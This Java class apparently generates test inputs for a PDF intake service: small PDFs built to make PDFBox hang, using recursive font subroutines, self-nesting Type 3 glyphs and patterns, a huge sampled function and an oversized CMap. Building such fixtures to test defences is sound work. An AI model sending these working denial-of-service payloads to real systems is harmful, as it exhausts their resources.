package imr.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSFloat;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDResources;

/**
 * Small PDFs that PDFBox would read or draw for hours, in loops that ask no guard: only the end of
 * its process stops it.
 */
final class PdfBombs {
  private static final int LEVELS = 60;
  private static final int RETURN = 11;
  private static final int CALL = 10;

  private final Map<String, byte[]> all = new LinkedHashMap<>();

  private PdfBombs() {}

  /** Each by what is hostile in it. */
  static Map<String, byte[]> all() {
    PdfBombs bombs = new PdfBombs();
    try {
      for (boolean widths : new boolean[] {true, false}) {
        String name = " routines that call each other" + (widths ? "" : ", and no widths");
        bombs.font("Type 1" + name, "FontFile", "", type1(), widths);
        bombs.font("local CFF" + name, "FontFile3", "Type1C", cff(false), widths);
        bombs.font("global CFF" + name, "FontFile3", "Type1C", cff(true), widths);
      }
      bombs.glyphs();
      bombs.patterns();
      bombs.function();
      bombs.map();
    } catch (IOException inMemory) {
      throw new UncheckedIOException(inMemory);
    }
    return bombs.all;
  }

  /** Adds to an empty page; the last argument is its resources. */
  private interface Making {
    void on(PDDocument document, PDPage page, COSDictionary resources) throws IOException;
  }

  private void add(String name, Making making) throws IOException {
    try (PDDocument document = new PDDocument()) {
      PDPage page = new PDPage();
      document.addPage(page);
      PDResources resources = new PDResources();
      page.setResources(resources);
      making.on(document, page, resources.getCOSObject());
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      document.save(out);
      all.put(name, out.toByteArray());
    }
  }

  private static void words(PDDocument document, PDPage page, String operators) throws IOException {
    page.getCOSObject().setItem(COSName.CONTENTS, stream(document, operators));
  }

  private static COSStream stream(PDDocument document, String operators) throws IOException {
    return stream(document, operators.getBytes(StandardCharsets.ISO_8859_1));
  }

  private static COSStream stream(PDDocument document, byte[] bytes) throws IOException {
    COSStream stream = document.getDocument().createCOSStream();
    try (OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
      out.write(bytes);
    }
    return stream;
  }

  private static COSArray numbers(double... numbers) {
    COSArray array = new COSArray();
    for (double number : numbers) {
      array.add(new COSFloat((float) number));
    }
    return array;
  }

  private static COSDictionary named(String name, COSBase what) {
    COSDictionary named = new COSDictionary();
    named.setItem(COSName.getPDFName(name), what);
    return named;
  }

  private static void resource(COSDictionary resources, String kind, COSBase what) {
    resources.setItem(COSName.getPDFName(kind), named("X", what));
  }

  private static COSDictionary fontNamed(String subtype) {
    COSDictionary font = new COSDictionary();
    font.setItem(COSName.TYPE, COSName.FONT);
    font.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
    font.setItem(COSName.BASE_FONT, COSName.getPDFName("Bomb"));
    font.setItem(COSName.FIRST_CHAR, COSInteger.get(65));
    font.setItem(COSName.LAST_CHAR, COSInteger.get(65));
    font.setItem(COSName.WIDTHS, numbers(500));
    return font;
  }

  private void font(String name, String key, String subtype, byte[] program, boolean widths)
      throws IOException {
    add(
        name,
        (document, page, resources) -> {
          COSStream file = stream(document, program);
          if (!subtype.isEmpty()) {
            file.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
          }
          file.setInt(COSName.getPDFName("Length1"), clear().length());
          file.setInt(COSName.getPDFName("Length2"), program.length - clear().length());
          file.setInt(COSName.getPDFName("Length3"), 0);
          COSDictionary descriptor = new COSDictionary();
          descriptor.setItem(COSName.TYPE, COSName.FONT_DESC);
          descriptor.setItem(COSName.FONT_NAME, COSName.getPDFName("Bomb"));
          descriptor.setInt(COSName.FLAGS, 32);
          descriptor.setItem(COSName.FONT_BBOX, numbers(0, 0, 1000, 1000));
          descriptor.setItem(COSName.getPDFName(key), file);
          COSDictionary font = fontNamed("Type1");
          font.setItem(COSName.FONT_DESC, descriptor);
          if (!widths) {
            font.removeItem(COSName.WIDTHS);
          }
          resource(resources, "Font", font);
          words(document, page, "BT /X 30 Tf 100 100 Td (A) Tj ET");
        });
  }

  private static String clear() {
    return "%!FontType1-1.0: Bomb 1.0\n12 dict begin\n/FontInfo 1 dict dup begin end readonly def\n"
        + "/FontName /Bomb def\n/Encoding StandardEncoding def\n/PaintType 0 def\n/FontType 1 def\n"
        + "/FontMatrix [0.001 0 0 0.001 0 0] readonly def\n/FontBBox {0 0 1000 1000} readonly def\n"
        + "currentdict end\ncurrentfile eexec\n";
  }

  /** Routine n calls routine n - 1 twice. */
  private static byte[] type1() throws IOException {
    ByteArrayOutputStream secret = new ByteArrayOutputStream();
    put(
        secret,
        "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} def\n");
    put(secret, "/ND {noaccess def} def\n/NP {noaccess put} def\n/lenIV 4 def\n");
    put(secret, "/Subrs " + (LEVELS + 1) + " array\n");
    for (int level = 0; level <= LEVELS; level++) {
      int below = 139 + level - 1;
      byte[] body =
          level == 0
              ? new byte[] {RETURN}
              : new byte[] {(byte) below, CALL, (byte) below, CALL, RETURN};
      routine(secret, "dup " + level, body, " NP\n");
    }
    put(secret, "ND\n2 index /CharStrings 2 dict dup begin\n");
    byte[] nothing = {(byte) 139, (byte) 139, 13, 14};
    byte[] bomb = {(byte) 139, (byte) 139, 13, (byte) (139 + LEVELS), CALL, 14};
    routine(secret, "/.notdef", nothing, " ND\n");
    routine(secret, "/A", bomb, " ND\n");
    put(secret, "end\nend\nreadonly put\nnoaccess put\ndup/FontName get exch definefont pop\n");
    put(secret, "mark currentfile closefile\n");
    ByteArrayOutputStream font = new ByteArrayOutputStream();
    put(font, clear());
    font.write(encrypted(secret.toByteArray(), 55665));
    return font.toByteArray();
  }

  private static void routine(ByteArrayOutputStream out, String name, byte[] body, String end)
      throws IOException {
    byte[] secret = encrypted(body, 4330);
    put(out, name + " " + secret.length + " RD ");
    out.write(secret);
    put(out, end);
  }

  private static void put(ByteArrayOutputStream out, String words) throws IOException {
    out.write(words.getBytes(StandardCharsets.ISO_8859_1));
  }

  /** Adobe Type 1 Font Format, 7.1; four bytes come first. */
  private static byte[] encrypted(byte[] plain, int key) {
    byte[] secret = new byte[plain.length + 4];
    int r = key;
    for (int i = 0; i < secret.length; i++) {
      int c = (i < 4 ? 0xd7 : plain[i - 4] & 0xff) ^ (r >> 8);
      secret[i] = (byte) c;
      r = ((c & 0xff) + r) * 52845 + 22719 & 0xffff;
    }
    return secret;
  }

  /** A CFF font (Adobe Technical Note 5176) whose routine n calls routine n - 1 twice. */
  private static byte[] cff(boolean global) throws IOException {
    byte[][] routines = new byte[LEVELS + 1][];
    int call = global ? 29 : CALL;
    for (int level = 0; level <= LEVELS; level++) {
      int below = 139 + level - 1 - 107; // the numbers of few routines begin at -107
      routines[level] =
          level == 0
              ? new byte[] {RETURN}
              : new byte[] {(byte) below, (byte) call, (byte) below, (byte) call, RETURN};
    }
    byte[] bomb = {(byte) (139 + LEVELS - 107), (byte) call, 14};
    byte[] none = {0, 0};
    byte[] header = {1, 0, 4, 2};
    byte[] names = index("Bomb".getBytes(StandardCharsets.US_ASCII));
    byte[] globals = global ? index(routines) : none;
    byte[] glyphs = index(new byte[] {14}, bomb);
    byte[] locals = global ? none : index(routines);
    byte[] privateDict = dict(new int[] {6}, new int[] {19}); // its routines follow it
    int topLength =
        index(
                dict(
                    new int[] {0},
                    new int[] {15},
                    new int[] {0},
                    new int[] {17},
                    new int[] {0, 0},
                    new int[] {18}))
            .length;
    int charset = header.length + names.length + topLength + none.length + globals.length;
    byte[] charsets = {0, 0, 34}; // format 0: the glyph after .notdef is A
    int glyphsAt = charset + charsets.length;
    int privateAt = glyphsAt + glyphs.length;
    byte[] top =
        index(
            dict(
                new int[] {charset}, new int[] {15},
                new int[] {glyphsAt}, new int[] {17},
                new int[] {privateDict.length, privateAt}, new int[] {18}));
    ByteArrayOutputStream font = new ByteArrayOutputStream();
    for (byte[] part :
        new byte[][] {header, names, top, none, globals, charsets, glyphs, privateDict, locals}) {
      font.write(part);
    }
    return font.toByteArray();
  }

  /** Numbers, then their operator, in turn; each number takes five bytes. */
  private static byte[] dict(int[]... numbersAndOperators) {
    ByteArrayOutputStream dict = new ByteArrayOutputStream();
    for (int i = 0; i < numbersAndOperators.length; i++) {
      for (int number : numbersAndOperators[i]) {
        if (i % 2 == 0) {
          dict.write(29);
          for (int shift = 24; shift >= 0; shift -= 8) {
            dict.write(number >> shift);
          }
        } else {
          dict.write(number);
        }
      }
    }
    return dict.toByteArray();
  }

  private static byte[] index(byte[]... objects) throws IOException {
    ByteArrayOutputStream index = new ByteArrayOutputStream();
    index.write(objects.length >> 8);
    index.write(objects.length);
    index.write(2);
    int offset = 1;
    index.write(offset >> 8);
    index.write(offset);
    for (byte[] object : objects) {
      offset += object.length;
      index.write(offset >> 8);
      index.write(offset);
    }
    for (byte[] object : objects) {
      index.write(object);
    }
    return index.toByteArray();
  }

  /** Each glyph is drawn with the next font, twice. */
  private void glyphs() throws IOException {
    add(
        "Type 3 glyphs that draw each other",
        (document, page, resources) -> {
          COSDictionary font = new COSDictionary();
          for (int level = 0; level < LEVELS; level++) {
            COSDictionary inner = font;
            font = fontNamed("Type3");
            font.setItem(COSName.FONT_MATRIX, numbers(0.001, 0, 0, 0.001, 0, 0));
            font.setItem(COSName.FONT_BBOX, numbers(0, 0, 1000, 1000));
            COSStream glyph =
                stream(document, "500 0 d0 BT /X 900 Tf (A) Tj (A) Tj ET 0 0 9 9 re f");
            font.setItem(COSName.CHAR_PROCS, named("A", glyph));
            COSDictionary encoding = new COSDictionary();
            COSArray differences = new COSArray();
            differences.add(COSInteger.get(65));
            differences.add(COSName.getPDFName("A"));
            encoding.setItem(COSName.DIFFERENCES, differences);
            font.setItem(COSName.ENCODING, encoding);
            COSDictionary own = new COSDictionary();
            resource(own, "Font", inner);
            font.setItem(COSName.RESOURCES, own);
          }
          resource(resources, "Font", font);
          words(document, page, "BT /X 30 Tf 100 100 Td (A) Tj ET");
        });
  }

  /** Each pattern is painted with the next, twice. */
  private void patterns() throws IOException {
    add(
        "patterns that paint each other",
        (document, page, resources) -> {
          COSStream pattern = pattern(document, "0 0 5 5 re f", new COSDictionary());
          for (int level = 0; level < LEVELS; level++) {
            COSDictionary own = new COSDictionary();
            resource(own, "Pattern", pattern);
            pattern =
                pattern(document, "/Pattern cs /X scn 0 0 50 50 re f /X scn 50 50 50 50 re f", own);
          }
          resource(resources, "Pattern", pattern);
          words(document, page, "/Pattern cs /X scn 0 0 612 792 re f");
        });
  }

  private static COSStream pattern(PDDocument document, String operators, COSDictionary resources)
      throws IOException {
    COSStream pattern = stream(document, operators);
    pattern.setInt(COSName.PATTERN_TYPE, 1);
    pattern.setInt(COSName.PAINT_TYPE, 1);
    pattern.setInt(COSName.TILING_TYPE, 1);
    pattern.setItem(COSName.BBOX, numbers(0, 0, 100, 100));
    pattern.setInt(COSName.X_STEP, 100);
    pattern.setInt(COSName.Y_STEP, 100);
    pattern.setItem(COSName.RESOURCES, resources);
    return pattern;
  }

  /** A color of 24 components, whose function interpolates between 2^24 samples. */
  private void function() throws IOException {
    add(
        "a function of 24 variables",
        (document, page, resources) -> {
          int variables = 24;
          COSStream function = stream(document, new byte[1 << 21]);
          function.setInt(COSName.FUNCTION_TYPE, 0);
          COSArray domain = new COSArray();
          COSArray sizes = new COSArray();
          COSArray names = new COSArray();
          for (int i = 0; i < variables; i++) {
            domain.add(COSInteger.get(0));
            domain.add(COSInteger.get(1));
            sizes.add(COSInteger.get(2));
            names.add(COSName.getPDFName("C" + i));
          }
          function.setItem(COSName.DOMAIN, domain);
          function.setItem(COSName.RANGE, numbers(0, 1));
          function.setItem(COSName.SIZE, sizes);
          function.setInt(COSName.BITS_PER_SAMPLE, 1);
          COSArray space = new COSArray();
          space.add(COSName.DEVICEN);
          space.add(names);
          space.add(COSName.DEVICEGRAY);
          space.add(function);
          resource(resources, "ColorSpace", space);
          words(
              document,
              page,
              "/X cs " + ("0.5 ".repeat(variables) + "scn 0 0 100 100 re f ").repeat(1000));
        });
  }

  /** A map of four billion characters. */
  private void map() throws IOException {
    add(
        "a map of four billion characters",
        (document, page, resources) -> {
          COSDictionary font = fontNamed("Type1");
          font.setItem(COSName.BASE_FONT, COSName.getPDFName("Helvetica"));
          font.setItem(
              COSName.TO_UNICODE,
              stream(
                  document,
                  "/CIDInit /ProcSet findresource begin begincmap\n"
                      + "1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n"
                      + "100 beginbfrange\n"
                      + "<00000000> <7FFFFFFF> <00000041>\n".repeat(100)
                      + "endbfrange\n100 begincidrange\n"
                      + "<00000000> <7FFFFFFF> 0\n".repeat(100)
                      + "endcidrange endcmap"));
          resource(resources, "Font", font);
          words(document, page, "BT /X 30 Tf 100 100 Td (A) Tj ET");
        });
  }
}
